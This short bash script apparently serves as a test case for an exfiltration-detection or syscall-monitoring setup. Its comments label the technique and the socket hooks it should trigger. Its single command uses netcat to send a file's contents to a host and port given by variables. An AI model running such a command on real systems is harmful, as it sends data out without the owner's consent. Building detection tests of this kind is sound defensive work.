#!/usr/bin/env bash
# technique: nc sends the scan
# hooks: socket_connect, socket_sendmsg
# sink: private-tcp

. attack.sh
timeout 6 nc -q 1 "$PRIVATE_HOST" "$PORT_TCP" <"$SCAN"
